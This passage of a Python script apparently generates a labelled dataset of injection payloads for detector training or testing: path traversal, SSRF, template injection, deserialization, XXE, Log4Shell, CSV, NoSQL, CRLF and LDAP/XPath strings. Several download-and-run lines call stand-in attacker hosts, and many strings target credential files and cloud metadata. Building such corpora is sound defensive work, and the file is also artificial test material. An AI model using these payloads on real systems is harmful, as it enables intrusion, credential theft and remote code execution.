        ("exhibit-download-dotdot+double-urlenc", "%252e%252e%252f%252e%252e%252f%252e%252e%252fetc%252fhosts"),
        ("scan-download-slash+overlong-utf8", "..%c0%af..%c0%af..%c0%af..%c0%afetc/passwd"),
        ("report-template-nested-strip+nested-dotdot", "....//....//....//....//etc/passwd"),
        ("exhibit-download-backslash+urlenc", "..%5c..%5c..%5c..%5cwindows%5csystem32%5cdrivers%5cetc%5chosts"),
        ("lab-pdf-extension-check+null-byte", "../../../../etc/passwd%00.pdf"),
        ("portal-static-file-web-inf", "../../WEB-INF/web.xml"),
        ("ehr-config-download-application-yml", "../../../../opt/ehr/config/application.yml"),
        ("windows-exhibit-unattend-xml", "..\\..\\..\\..\\Windows\\Panther\\Unattend.xml"),
        ("dicom-path-mixed-slashes+mixed-slash", "..\\/..\\/..\\/..\\/etc/passwd"),
        ("log-viewer-absolute-proc-cmdline", "/proc/self/cmdline"),
        ("hl7-archive-path-dotdot-bash-history", "ADT/2024/../../../../home/hl7svc/.bash_history"),
        ("case-folder-dotdot-sealed-juvenile", "2024-CV-001873/../../sealed/JV-24-00311/psych_records.pdf"),
        ("patient-doc-dotdot-other-mrn", "MRN004512/../MRN118822/discharge_summary.pdf"),
        ("scan-download-fullwidth-dots+fullwidth", "．．/．．/．．/etc/passwd"),
        ("scan-download-division-slash+unicode", "..\u2215..\u2215..\u2215etc\u2215passwd"),
        ("iis-exhibit-u-encoding+u-encoding", "..%u2216..%u2216..%u2216windows%u2216win.ini"),
        ("iis-download-absolute-web-config", "C:\\inetpub\\wwwroot\\web.config"),
        ("log-viewer-absolute-etc-shadow", "/etc/shadow"),
        ("report-template-docker-secret", "../../../../run/secrets/db_password"),
        ("dicom-export-aws-credentials", "../../../../../home/pacs/.aws/credentials"),
        ("portal-static-git-config", "../../.git/config"),
        ("efiling-upload-prefix-bash-history", "/srv/efiling/uploads/../../../root/.bash_history"),
        ("letter-template-php-filter-source", "php://filter/convert.base64-encode/resource=../config/database.php"),
        ("pacs-viewer-tomcat-users", "../../../../usr/local/tomcat/conf/tomcat-users.xml"),
        ("ehr-cert-download-private-key", "../../../../etc/ssl/private/ehr-portal.key"),
        ("windows-exhibit-sam-regback", "..\\..\\..\\..\\Windows\\System32\\config\\RegBack\\SAM"),
        ("scan-download-slash-only+urlenc", "..%2f..%2f..%2f..%2fetc%2fpasswd"),
        ("scan-download-half-encoded-dots+urlenc", ".%2e/.%2e/.%2e/.%2e/etc/passwd"),
        ("log-viewer-home-authorized-keys", "~/.ssh/authorized_keys"),
        ("portal-assets-nginx-alias-off-by-slash", "/assets../config/secrets.yml"),
        ("log-viewer-absolute-proc-1-environ", "/proc/1/environ"),
        ("befunde-folder-umlaut-dotdot", "Befunde/Müller/../../../../../etc/hostname"),
        ("lab-template-windows-programdata", "..\\..\\..\\ProgramData\\EHR\\conf\\db.ini"),
        ("claims-export-dotdot-overwrite-cron", "../../../../etc/cron.d/claims-export"),
        ("matter-doc-dotdot-other-client", "matters/2024-0192/../2023-0877/privileged/memo_to_client.docx"),
        ("plain-traversal-etc-passwd", "../../../etc/passwd"),
        ("plain-traversal-win-ini", "..\\..\\..\\windows\\win.ini"),
        ("plain-traversal-deep-hosts", "../../../../../../../../../../etc/hosts"),
        ("plain-traversal-boot-ini", "../../../../boot.ini"),
        ("plain-traversal-encoded-dots", "%2e%2e/%2e%2e/%2e%2e/etc/passwd"),
    ]
    prefixes = [("scan-download", "scans/2024/06/"), ("exhibit-download", "exhibits/CV-23-04512/"), ("report-template", "templates/letters/"),
                ("lab-pdf", "lab/pdf/"), ("dicom-retrieve", "/mnt/pacs/archive/CT/")]
    targets = ["etc/passwd", "etc/hostname", "proc/self/status", "etc/ssl/private/portal.key", "var/lib/pgsql/data/pg_hba.conf", "home/ehr/.pgpass"]

    def gen():
        c, pre = pick(prefixes)
        return c + "-prefixed-dotdot", pre + "../" * RNG.randint(4, 9) + pick(targets)
    return take("traversal", lit, gen, 53)


# ====================================================================== ssrf
def ssrf():
    lit = [
        ("fhir-server-base-url-aws-imds-creds", "http://169.254.169.254/latest/meta-data/iam/security-credentials/"),
        ("fhir-subscription-endpoint-gcp-token", "http://metadata.google.internal/computeMetadata/v1/instance/service-accounts/default/token"),
        ("dicomweb-remote-pacs-azure-imds-token", "http://169.254.169.254/metadata/identity/oauth2/token?api-version=2018-02-01&resource=https://management.azure.com/"),
        ("patient-photo-url-ecs-task-credentials", "http://169.254.170.2/v2/credentials/"),
        ("document-import-url-alibaba-ram", "http://100.100.100.200/latest/meta-data/ram/security-credentials/"),
        ("cds-hooks-service-url-actuator-env", "http://localhost:8080/actuator/env"),
        ("pdf-render-url-internal-elasticsearch", "http://10.0.8.15:9200/patients/_search?q=*&size=10000"),
        ("fhir-subscription-redis-gopher-flushall", "gopher://127.0.0.1:6379/_%2A1%0D%0A%248%0D%0AFLUSHALL%0D%0A"),
        ("exhibit-link-file-scheme", "file:///etc/passwd"),
        ("smart-jwks-url-kubelet-pods", "https://10.0.0.1:10250/pods"),
        ("smart-app-launch-url-docker-api", "http://127.0.0.1:2375/containers/json?all=1"),
        ("bulk-import-source-consul-agent", "http://127.0.0.1:8500/v1/agent/self"),
        ("fhir-server-base-url-imds+decimal-ip", "http://2852039166/latest/meta-data/"),
        ("patient-photo-url-imds-user-data+hex-ip", "http://0xa9fea9fe/latest/user-data"),
        ("dicomweb-url-imds+octal-ip", "http://0251.0376.0251.0376/latest/meta-data/iam/info"),
        ("cds-hooks-service-admin+short-ip", "http://127.1:8080/admin/"),
        ("fhir-server-base-url-imds+ipv6-mapped", "http://[::ffff:169.254.169.254]/latest/meta-data/"),
        ("webhook-ipv6-loopback-prometheus", "http://[::1]:9090/api/v1/query?query=up"),
        ("document-import-zero-address-couchdb", "http://0.0.0.0:5984/_all_dbs"),
        ("fhir-server-base-url-userinfo-confusion", "https://fhir.example-hospital.org@169.254.169.254/latest/meta-data/"),
        ("fhir-server-base-url-fragment-confusion", "http://169.254.169.254#@fhir.example-hospital.org/r4/metadata"),
        ("cds-hooks-url-backslash-confusion", "http://fhir.example-hospital.org\\@127.0.0.1:8080/admin"),
        ("exhibit-link-open-redirect-to-imds", "https://attacker.example/redir?to=http%3A%2F%2F169.254.169.254%2Flatest%2Fmeta-data%2F"),
        ("subscription-endpoint-dns-rebinding", "http://rebind.attacker.example:8080/internal/patients/export"),
        ("document-import-dict-memcached", "dict://127.0.0.1:11211/stats"),
        ("directory-sync-url-ldap-internal", "ldap://10.0.0.5:389/dc=hospital,dc=local??sub?(objectClass=*)"),
        ("dicom-source-unc-ntlm-capture", "\\\\203.0.113.9\\share\\scan.dcm"),
        ("report-template-url-jar-scheme", "jar:http://attacker.example/x.zip!/letter.ftl"),
        ("bulk-import-source-etcd-keys", "http://127.0.0.1:2379/v2/keys/?recursive=true"),
        ("patient-photo-url-oracle-cloud-metadata", "http://169.254.169.254/opc/v1/instance/"),
        ("interface-test-url-mllp-listener", "http://10.40.12.50:2575/"),
        ("cds-hooks-url-k8s-api-secrets", "https://kubernetes.default.svc/api/v1/namespaces/kube-system/secrets"),
        ("webhook-internal-ehr-admin-export", "http://ehr-admin.internal:8443/admin/users?export=csv"),
        ("document-import-solr-admin", "http://127.0.0.1:8983/solr/admin/cores?action=STATUS"),
        ("fhir-server-base-url-encoded-host+urlenc-host", "http://%31%36%39%2e%32%35%34%2e%31%36%39%2e%32%35%34/latest/meta-data/"),
        ("patient-photo-url-imds+mixed-ip", "http://169.0xfe.43518/latest/meta-data/"),
        ("fax-callback-gopher-smtp-relay", "gopher://127.0.0.1:25/_HELO%20x%0D%0AMAIL%20FROM%3A%3Cportal%40hospital.example%3E%0D%0ARCPT%20TO%3A%3Cloot%40attacker.example%3E%0D%0ADATA%0D%0ASubject%3A%20x%0D%0A%0D%0Ax%0D%0A.%0D%0AQUIT%0D%0A"),
        ("bulk-import-source-ftp-internal", "ftp://10.0.4.20/exports/claims_2024.x12"),
        ("cds-hooks-url-trailing-dot-localhost", "http://localhost.:8080/internal/config"),
        ("fhir-server-base-url-circled-digits+unicode-digits", "http://①⑥⑨.②⑤④.①⑥⑨.②⑤④/latest/meta-data/"),
        ("webhook-ipv6-full-mapped-loopback+ipv6-mapped", "http://[0:0:0:0:0:ffff:7f00:1]:8080/admin"),
        ("efiling-exhibit-url-internal-sharepoint", "http://sharepoint.hospital.local/_api/web/lists"),
        ("subscription-endpoint-imds-ssh-keys", "http://169.254.169.254/latest/meta-data/public-keys/0/openssh-key"),
        ("plain-ssrf-imds-root", "http://169.254.169.254/"),
        ("plain-ssrf-localhost", "http://localhost/"),
        ("plain-ssrf-loopback-ssh", "http://127.0.0.1:22/"),
        ("plain-ssrf-file-windows", "file:///c:/windows/win.ini"),
        ("plain-ssrf-gcp-metadata", "http://metadata.google.internal/"),
    ]
    ctx = ["fhir-server-base-url", "subscription-endpoint", "patient-photo-url", "dicomweb-url", "cds-hooks-url"]
    targets = ["http://127.0.0.1:%d/" % p for p in (5432, 6379, 9200, 8500, 15672)] + \
              ["http://10.0.%d.%d:8080/admin" % (RNG.randint(0, 20), RNG.randint(2, 250)) for _ in range(4)] + \
              ["http://localhost:8081/jmx", "http://192.168.1.1/cgi-bin/config.exp"]

    def gen():
        return pick(ctx) + "-internal-service", pick(targets) + pick(["", "?format=json", "#", "status"])
    return take("ssrf", lit, gen, 52)


# ====================================================================== code
def code():
    php_obj = 'O:8:"Exporter":2:{%s%s%s%s}' % (php_s("path"), php_s("/var/www/html/portal/x.php"), php_s("data"),
                                              php_s("<?php system($_GET['c']); ?>"))
    lit = [
        ("reminder-letter-jinja2-cycler-os", "Dear {{ patient.name }}, {{ cycler.__init__.__globals__.os.popen('id').read() }}"),
        ("discharge-template-jinja2-config", "Follow up with {{ config.items() }} in 1-2 weeks"),
        ("reminder-letter-jinja2-attr-chain+hex-escape", "{{ request|attr('application')|attr('\\x5f\\x5fglobals\\x5f\\x5f')|attr('\\x5f\\x5fgetitem\\x5f\\x5f')('\\x5f\\x5fbuiltins\\x5f\\x5f')|attr('\\x5f\\x5fgetitem\\x5f\\x5f')('\\x5f\\x5fimport\\x5f\\x5f')('os')|attr('popen')('id')|attr('read')() }}"),
        ("appointment-sms-jinja2-lipsum-globals", "Reminder: {{ lipsum.__globals__['os'].popen('curl -s http://attacker.example/j|sh').read() }}"),
        ("legal-doc-assembly-twig-filter-system", "Plaintiff {{ ['id']|filter('system') }}"),
        ("legal-doc-assembly-twig-map-passthru", "{{ ['cat /etc/passwd']|map('passthru')|join }}"),
        ("court-form-freemarker-execute", "<#assign ex=\"freemarker.template.utility.Execute\"?new()>${ex(\"id\")}"),
        ("court-form-freemarker-object-constructor", "${\"freemarker.template.utility.ObjectConstructor\"?new()(\"java.lang.ProcessBuilder\",\"id\").start()}"),
        ("eob-letter-velocity-class-inspect", "#set($rt=$class.inspect(\"java.lang.Runtime\").type.getRuntime())$rt.exec(\"id\")"),
        ("portal-view-name-thymeleaf-preprocess", "__${T(java.lang.Runtime).getRuntime().exec('curl http://203.0.113.41/t')}__::.x"),
        ("claim-rule-spel-runtime", "#{T(java.lang.Runtime).getRuntime().exec('id')}"),
        ("claim-rule-spel-processbuilder", "#{new java.lang.ProcessBuilder(new String[]{'sh','-c','id>/tmp/s'}).start()}"),
        ("efiling-case-number-struts-ognl", "%{(#rt=@java.lang.Runtime@getRuntime()).(#rt.exec('id'))}"),
        ("discharge-instructions-erb-backticks", "Take 1 tab daily <%= `id` %>"),
        ("discharge-instructions-erb-file-read", "<%= File.read('/etc/passwd') %>"),
        ("message-template-nunjucks-function-constructor", "{{ joiner.constructor(\"return process.mainModule.require('child_process').execSync('cat /etc/hostname').toString()\")() }}"),
        ("lab-letter-mako-import", "${__import__('os').popen('id').read()}"),
        ("lab-letter-tornado-import", "{% import os %}{{ os.popen('id').read() }}"),
        ("benefits-notice-smarty-function", "{system('id')}"),
        ("consent-form-razor-process-start", "@System.Diagnostics.Process.Start(\"cmd.exe\",\"/c whoami > C:\\\\inetpub\\\\wwwroot\\\\r.txt\")"),
        ("reminder-letter-jinja2-subclasses", "{{ ''.__class__.__mro__[1].__subclasses__() }}"),
        ("letter-template-django-debug-tag", "Dear patient, {% debug %}"),
        ("court-form-jsp-el-reflection", "${''.getClass().forName('java.lang.Runtime').getMethod('exec',''.getClass()).invoke(''.getClass().forName('java.lang.Runtime').getMethod('getRuntime').invoke(null),'id')}"),
        ("pharmacy-rule-mvel-runtime", "@{Runtime.getRuntime().exec('id')}"),
        ("dose-calculator-python-eval-import", "__import__('os').popen('id').read()"),
        ("dose-calculator-node-eval-child-process", "require('child_process').execSync('cat /etc/passwd').toString()"),
        ("bmi-formula-python-eval-subclasses-popen", "[c for c in ().__class__.__base__.__subclasses__() if c.__name__=='Popen'][0]('id',shell=True)"),
        ("report-script-groovy-execute", "\"id\".execute().text"),
        ("ruby-eval-interpolation-system", "#{system('id')}"),
        ("device-config-upload-pyyaml-apply", "!!python/object/apply:os.system [\"curl -s http://203.0.113.41/y | sh\"]"),
        ("interface-config-snakeyaml-scriptengine", "!!javax.script.ScriptEngineManager [!!java.net.URLClassLoader [[!!java.net.URL [\"http://attacker.example/yaml-payload.jar\"]]]]"),
        ("fhir-json-jackson-default-typing-jdbcrowset", "[\"com.sun.rowset.JdbcRowSetImpl\",{\"dataSourceName\":\"ldap://attacker.example:1389/Exploit\",\"autoCommit\":true}]"),
        ("claims-json-fastjson-autotype", "{\"@type\":\"com.sun.rowset.JdbcRowSetImpl\",\"dataSourceName\":\"rmi://203.0.113.41:1099/o\",\"autoCommit\":true}"),
        ("matter-cookie-php-unserialize-object", php_obj),
        ("efiling-json-dotnet-typename-objectdataprovider", "{\"$type\":\"System.Windows.Data.ObjectDataProvider, PresentationFramework\",\"MethodName\":\"Start\",\"MethodParameters\":{\"$type\":\"System.Collections.ArrayList, mscorlib\",\"$values\":[\"cmd\",\"/c whoami > C:\\\\Temp\\\\o.txt\"]},\"ObjectInstance\":{\"$type\":\"System.Diagnostics.Process, System\"}}"),
        ("session-blob-python-pickle+base64", b64(b"cos\nsystem\n(S'curl -s http://203.0.113.9/p|sh'\ntR.")),
        ("portal-prefs-node-serialize-iife", "{\"pref\":\"_$$ND_FUNC$$_function(){require('child_process').exec('id')}()\"}"),
        ("hl7-engine-config-xstream-eventhandler", "<sorted-set><dynamic-proxy><interface>java.lang.Comparable</interface><handler class=\"java.beans.EventHandler\"><target class=\"java.lang.ProcessBuilder\"><command><string>sh</string><string>-c</string><string>id</string></command></target><action>start</action></handler></dynamic-proxy></sorted-set>"),
        ("ccda-upload-xxe-file", "<?xml version=\"1.0\"?>\n<!DOCTYPE ClinicalDocument [<!ENTITY x SYSTEM \"file:///etc/passwd\">]>\n<ClinicalDocument xmlns=\"urn:hl7-org:v3\"><title>&x;</title></ClinicalDocument>"),
        ("efiling-xml-xxe-oob-parameter-entity", "<?xml version=\"1.0\"?>\n<!DOCTYPE filing [<!ENTITY % d SYSTEM \"http://attacker.example/e.dtd\"> %d;]>\n<filing><caseNumber>1:24-cv-00812</caseNumber></filing>"),
        ("insurance-card-svg-xxe", "<?xml version=\"1.0\"?><!DOCTYPE svg [<!ENTITY h SYSTEM \"file:///etc/hostname\">]><svg xmlns=\"http://www.w3.org/2000/svg\"><text y=\"20\">&h;</text></svg>"),
        ("lab-report-xml-xinclude", "<report xmlns:xi=\"http://www.w3.org/2001/XInclude\"><xi:include parse=\"text\" href=\"file:///etc/passwd\"/></report>"),
        ("claims-xml-xxe-php-filter", "<!DOCTYPE r [<!ENTITY s SYSTEM \"php://filter/convert.base64-encode/resource=/var/www/html/config.php\">]><r>&s;</r>"),
        ("dicom-sr-xml-xxe-imds", "<?xml version=\"1.0\"?><!DOCTYPE sr [<!ENTITY m SYSTEM \"http://169.254.169.254/latest/meta-data/iam/security-credentials/\">]><sr><finding>&m;</finding></sr>"),
        ("hl7-pid-name-log4shell", "PID|1||MRN1^^^UCMC^MR||${jndi:ldap://203.0.113.41:1389/a}^JOHN"),
        ("portal-user-agent-log4shell+lookup-nesting", "Mozilla/5.0 ${${lower:j}ndi:${lower:l}dap://c2.attacker.example/x}"),
        ("portal-username-log4shell-env-exfil", "${jndi:ldap://${env:USER}.${sys:java.version}.exfil.attacker.example/a}"),
        ("docket-search-log4shell+default-value", "${${::-j}${::-n}${::-d}${::-i}:${::-r}${::-m}${::-i}://198.51.100.23/o}"),
        ("rx-comment-log4shell+env-default", "${${env:NOPE:-j}ndi:ldap://attacker.example/q}"),
        ("patient-prefs-json-proto-admin", "{\"language\":\"es\",\"__proto__\":{\"isAdmin\":true}}"),
        ("portal-query-constructor-prototype-role", "constructor[prototype][role]=admin"),
        ("portal-query-proto-ejs-outputfunctionname", "__proto__[outputFunctionName]=x;process.mainModule.require('child_process').execSync('id');s"),
        ("fhir-json-patch-proto-path", "[{\"op\":\"add\",\"path\":\"/__proto__/shell\",\"value\":\"/proc/self/exe\"}]"),
        ("matter-settings-merge-constructor-prototype", "{\"constructor\":{\"prototype\":{\"allowedRoles\":[\"clinician\",\"admin\"]}}}"),
        ("claims-export-csv-hyperlink-exfil", "=HYPERLINK(\"https://attacker.example/?d=\"&A2&B2,\"View claim\")"),
        ("patient-name-csv-dde-powershell", "=cmd|' /C powershell -w hidden -c iwr http://203.0.113.41/x.ps1|iex'!A1"),
        ("eob-note-csv-plus-dde", "+SUM(1+1)*cmd|' /C calc'!A0"),
        ("docket-export-csv-at-dde", "@SUM(1+9)*cmd|' /C notepad'!A1"),
        ("benefits-export-csv-minus-webservice", "-2+3+WEBSERVICE(\"https://exfil.attacker.example/?\"&C2)"),
        ("matter-export-sheets-importxml", "=IMPORTXML(CONCAT(\"https://attacker.example/?\",A1:C9),\"//a\")"),
        ("court-letter-latex-write18", "\\immediate\\write18{curl -s http://203.0.113.41/l | sh}"),
        ("court-letter-latex-input-file", "Respectfully submitted, \\input{/etc/passwd}"),
        ("portal-page-ssi-exec", "<!--#exec cmd=\"id\" -->"),
        ("ccda-stylesheet-xslt-php-function", "<xsl:stylesheet version=\"1.0\" xmlns:xsl=\"http://www.w3.org/1999/XSL/Transform\" xmlns:php=\"http://php.net/xsl\"><xsl:template match=\"/\"><xsl:value-of select=\"php:function('system','id')\"/></xsl:template></xsl:stylesheet>"),
        ("reminder-letter-jinja2-builtins+urlenc", q("{{ self.__init__.__globals__.__builtins__.__import__('os').popen('id').read() }}")),
        ("german-letter-jinja2-url-for-environ", "Sehr geehrte/r {{ url_for.__globals__.os.environ }}"),
        ("plain-ssti-jinja2-cycler", "{{ cycler.__init__.__globals__.os.popen('whoami').read() }}"),
        ("plain-log4shell-ldap", "${jndi:ldap://attacker.example/a}"),
        ("plain-spel-runtime", "${T(java.lang.Runtime).getRuntime().exec('whoami')}"),
        ("plain-xxe-file", "<!DOCTYPE a [<!ENTITY b SYSTEM \"file:///etc/passwd\">]><a>&b;</a>"),
        ("plain-prototype-pollution", "{\"__proto__\":{\"polluted\":\"yes\"}}"),
        ("plain-csv-dde", "=1+1+cmd|' /C whoami'!A1"),
        ("plain-pyyaml-new-system", "!!python/object/new:os.system [id]"),
    ]
    ctx = [("hl7-obx-value", "OBX|1|ST|5778-6^Color^LN||%s||||||F"), ("portal-referer", "https://portal.example-clinic.org/?x=%s"),
           ("docket-party-name", "JOHN DOE %s"), ("rx-sig-text", "Take 1 tab daily %s"), ("x-api-version-header", "%s")]
    schemes = ["ldap", "ldaps", "rmi", "dns", "iiop"]

    def gen():
        c, fmt = pick(ctx)
        return c + "-log4shell", fmt % ("${jndi:%s://%s:%d/%s}" % (pick(schemes), pick(ATK), pick([389, 1389, 1099, 53, 636]),
                                                                    "".join(pick("abcdefghjkmnpqrstuvwxyz") for _ in range(RNG.randint(1, 5)))))
    return take("code", lit, gen, 78)


# ====================================================================== nosqli
def nosqli():
    lit = [
        ("portal-login-json-ne-null", "{\"username\":\"admin\",\"password\":{\"$ne\":null}}"),
        ("portal-login-query-ne", "username=admin&password[$ne]=x"),
        ("patient-search-regex-ssn-prefix", "{\"mrn\":{\"$regex\":\"^MRN00\"},\"ssn\":{\"$regex\":\"^1\"}}"),
        ("appointment-filter-where-sleep", "{\"$where\":\"sleep(5000) || true\"}"),
        ("claims-filter-member-gt-empty", "{\"memberId\":{\"$gt\":\"\"}}"),
        ("message-search-or-exists", "{\"$or\":[{\"owner\":\"me\"},{\"owner\":{\"$exists\":true}}]}"),
        ("document-list-owner-nin", "owner[$nin][]=nobody"),
        ("report-pipeline-lookup-staff", "[{\"$lookup\":{\"from\":\"staff_accounts\",\"pipeline\":[{\"$match\":{}}],\"as\":\"leak\"}}]"),
        ("appointment-filter-expr-function-js", "{\"$expr\":{\"$function\":{\"body\":\"function(){sleep(3000);return true}\",\"args\":[],\"lang\":\"js\"}}}"),
        ("provider-search-where-password-prefix", "' || this.password.match(/^a/) || '"),
        ("provider-search-where-return-true", "'; return true; var x='"),
        ("portal-login-regex-blind-query", "password[$regex]=^p4&username=admin"),
        ("staff-directory-email-regex-all", "email[$regex]=.*"),
        ("password-reset-token-exists", "{\"resetToken\":{\"$exists\":true},\"email\":\"victim@example.org\"}"),
        ("portal-login-not-eq", "{\"username\":{\"$not\":{\"$eq\":\"nobody\"}},\"password\":{\"$not\":{\"$eq\":\"x\"}}}"),
        ("couchdb-mango-selector-all", "{\"selector\":{\"_id\":{\"$gt\":null}},\"fields\":[\"ssn\",\"dob\"],\"limit\":10000}"),
        ("patient-search-elasticsearch-query-string", "garcia) OR (_exists_:ssn"),
        ("portal-login-query-ne+urlenc", "username=admin&password%5B%24ne%5D="),
        ("portal-login-expr-eq-self", "{\"username\":\"admin\",\"$expr\":{\"$eq\":[\"$password\",\"$password\"]}}"),
        ("appointment-filter-where-admin-sleep+json-unicode", "{\"$where\":\"this.role==\\u0027admin\\u0027 && sleep(4000)\"}"),
        ("claims-filter-in-all-members", "{\"memberId\":{\"$in\":[null,\"\",{\"$gt\":\"\"}]},\"status\":{\"$ne\":\"x\"}}"),
        ("plain-nosqli-ne-null", "{\"$ne\":null}"),
        ("plain-nosqli-gt-empty", "{\"$gt\":\"\"}"),
    ]
    users = ["admin", "drkim", "clerk01", "pharm_lead"]

    def gen():
        return "portal-login-regex-blind-prefix", "{\"username\":\"%s\",\"password\":{\"$regex\":\"^%s\"}}" % (
            pick(users), "".join(pick("abcdefghjkmnp23456789") for _ in range(RNG.randint(1, 4))))
    return take("nosqli", lit, gen, 26)


# ====================================================================== crlf
def crlf():
    lit = [
        ("record-download-filename-set-cookie", "discharge_summary.pdf\r\nSet-Cookie: session=FAKE-attacker-session; Path=/; HttpOnly"),
        ("portal-return-url-session-fixation+urlenc", "/home%0d%0aSet-Cookie:%20portal_sid=FAKEfixated%0d%0a"),
        ("chart-audit-log-forged-export-entry", "viewed chart\n2024-06-11T10:02:44Z user=dr.kim action=EXPORT_ALL_PHI result=success ip=10.0.2.11"),
        ("contact-form-subject-bcc", "Appointment request\r\nBcc: harvest@attacker.example"),
        ("contact-form-from-cc-html-body", "patient@example.org\r\nCc: list@attacker.example\r\nContent-Type: text/html\r\n\r\n<a href=https://attacker.example/login>Verify your portal account</a>"),
        ("hl7-pid-name-segment-injection-fake-critical-lab", "DOE^JOHN\rOBX|1|NM|2345-7^Glucose^LN||35|mg/dL|70-99|LL|||F"),
        ("hl7-address-segment-injection-proxy-access", "1200 N ELM ST^^SPRINGFIELD^IL^62704\rZPI|1|PORTAL_OPT_IN^Y|PROXY^mallory@attacker.example"),
        ("hl7-mllp-frame-injection-discharge", "DOE^JOHN\x1c\r\x0bMSH|^~\\&|ATTACKER|X|EHR|UCMC|20240611||ADT^A03|X1|P|2.5\rPID|1||MRN004512^^^UCMC^MR\rPV1|1|I"),
        ("message-notification-smtp-data-smuggling", "Thanks!\r\n.\r\nMAIL FROM:<billing@hospital.example>\r\nRCPT TO:<victim@example.org>\r\nDATA\r\nSubject: Pay your balance\r\n\r\nPay at https://attacker.example/pay\r\n.\r\n"),
        ("portal-lang-param-response-splitting+urlenc", "en%0d%0aContent-Length:%200%0d%0a%0d%0aHTTP/1.1%20200%20OK%0d%0aContent-Type:%20text/html%0d%0a%0d%0a<script>alert(1)</script>"),
        ("portal-lang-cookie+utf8-crlf", "es-MX嘊嘍Set-Cookie: admin=1"),
        ("login-name-log-lf-forgery", "Nguyen\nINFO  [auth] login succeeded for user=admin from 10.0.2.11"),
        ("audit-log-cr-overwrite", "ok\r[2024-06-11 10:00:00] INFO access granted to sealed case JV-24-00311"),
        ("json-audit-log-field-breakout", "x\",\"level\":\"INFO\",\"user\":\"admin\",\"action\":\"grant_role\",\"msg\":\"ok"),
        ("proxy-client-ip-header-injection", "203.0.113.9\r\nX-Forwarded-User: admin"),
        ("portal-redirect-lf-location+urlenc", "/portal%0aLocation:%20https://attacker.example/"),
        ("records-request-email-bcc+urlenc", "jdoe%40example.org%0d%0aBcc:%20all-patients%40attacker.example"),
        ("incident-note-syslog-forged-sudo", "Fall risk note\n<13>Jun 11 10:00:00 ehr-app01 sudo: clerk : TTY=pts/0 ; PWD=/ ; USER=root ; COMMAND=/bin/bash"),
        ("log-viewer-ansi-clear-screen", "chart viewed\x1b[2J\x1b[1;1Hall systems normal"),
        ("audit-log-line-separator+u2028", "note\u2028INFO admin exported 4,812 records"),
        ("audit-log-next-line+nel", "x\u0085WARN audit trail disabled at request of compliance"),
        ("download-json-filename-escaped-crlf+json-escape", "{\"filename\":\"eob.pdf\\r\\nContent-Type: text/html\\r\\n\\r\\n<script>alert(1)</script>\"}"),
        ("billing-reply-subject-reply-to", "Re: billing question\nReply-To: support@attacker.example"),
        ("session-cache-key-redis-inline-command", "sess123\r\nSET session:admin \"{\\\"role\\\":\\\"admin\\\"}\"\r\n"),
        ("notification-sender-smtp-rcpt-injection", "notify@clinic.example>\r\nRCPT TO:<loot@attacker.example"),
        ("exhibit-download-name+double-urlenc", "report.pdf%250d%250aSet-Cookie:%2520x=y"),
        ("docket-csv-log-newline-row", "note\n2024-06-11,clerk07,UNSEAL,JV-24-00311,approved"),
        ("plain-crlf-set-cookie", "%0d%0aSet-Cookie: crlf=injected"),
        ("plain-crlf-header", "\r\nX-Injected: 1"),
        ("plain-crlf-log-line", "\nadmin logged in"),
    ]
    forged = ["INFO user=%s action=VIEW_SEALED result=success", "WARN break-glass access approved for %s",
              "INFO role changed to admin for %s", "INFO MFA verified for %s"]

    def gen():
        return "audit-log-crlf-forgery", "%s%s%s" % (pick(["ok", "viewed", "MRN004512", "printed label"]),
                                                     pick(["\r\n", "\n", "%0d%0a", "%0a"]), pick(forged) % pick(["admin", "clerk07", "dr.kim"]))
    return take("crlf", lit, gen, 33)


# ====================================================================== ldap-xpath
def ldap_xpath():
    lit = [
        ("clinician-lookup-npi-always-true", "1234567893)(|(objectClass=*"),
        ("staff-lookup-ehr-admins-group", "dkim)(memberOf=cn=EHR-Admins,ou=Groups,dc=hospital,dc=local"),
        ("staff-lookup-home-phone-leak", "*)(|(homePhone=*"),
        ("portal-login-filter-and-true", "admin)(&)"),
        ("portal-login-uid-wildcard-close", "*)(uid=*))(|(uid=*"),
        ("pharmacist-lookup-employee-number", "*)(|(employeeNumber=*"),
        ("portal-login-filter-truncation+null-byte", "admin)(|(cn=*))%00"),
        ("staff-search-mail-wildcard+urlenc", q("*)(|(mail=*@hospital.local")),
        ("staff-lookup-pwdlastset-probe", "jdoe)(pwdLastSet>=0"),
        ("arzt-suche-german-title", "Müller)(|(title=Chefarzt*"),
        ("staff-lookup-department-enum", "*)(ou=Psychiatry"),
        ("ccda-xpath-mrn-tautology", "MRN004512' or '1'='1"),
        ("ccda-xpath-union-ssn-oid", "'] | //patientRole/id[@root='2.16.840.1.113883.4.1']/@extension | //x['"),
        ("efiling-config-xpath-count-users", "x' or count(//user)>0 or 'a'='b"),
        ("efiling-config-xpath-password-length", "x' or string-length(//user[1]/password)=12 or 'a'='b"),
        ("efiling-config-xpath-password-substring", "x' or substring(//user[name='clerk']/password,1,1)='p' or '"),
        ("ccda-xpath-numeric-or", "8842 or 1=1"),
        ("ccda-xpath2-doc-external", "x' or doc('http://attacker.example/x.xml') or '"),
        ("ccda-xpath-node-name-enum", "' or name(//*[1]/*[2])='credentials' or '"),
        ("ccda-xpath-union-all-nodes", "')] | //* | //*[('"),
        ("plain-ldap-or-objectclass", "*)(|(objectClass=*))"),
        ("plain-xpath-or-true", "' or 1=1 or '"),
    ]
    users = ["admin", "dkim", "clerk07", "svc_hl7", "pharm_lead"]

    def gen():
        return "portal-login-ldap-blind-password-prefix", "%s)(userPassword=%s*" % (
            pick(users), "".join(pick("abcdefghjk0123456789") for _ in range(RNG.randint(1, 4))))
    return take("ldap-xpath", lit, gen, 24)


CATEGORIES = [
    ("sqli", sqli),
    ("xss", xss),
    ("cmdi", cmdi),
    ("traversal", traversal),
    ("ssrf", ssrf),
    ("code", code),
    ("nosqli", nosqli),
    ("crlf", crlf),
    ("ldap-xpath", ldap_xpath),
]


def main():
    rows, counts = [], {}
    for cat, fn in CATEGORIES:
        items = fn()
        counts[cat] = len(items)
        rows.extend((cat, cls, v) for cls, v in items)
    assert len(set(v for _, _, v in rows)) == len(rows), "duplicate value"
    with OUT.open("w", encoding="utf-8", newline="\n") as f:
        for i, (cat, cls, v) in enumerate(rows, 1):
            f.write(json.dumps({"id": "ha25-%05d" % i, "category": cat, "class": cls, "label": "attack",
                                "value": v}, ensure_ascii=False) + "\n")
    for cat, _ in CATEGORIES:
        print("%-10s %d  (literals %d)" % (cat, counts[cat], LITERAL_COUNTS[cat]))
    print("%-10s %d" % ("total", len(rows)))


if __name__ == "__main__":
    main()
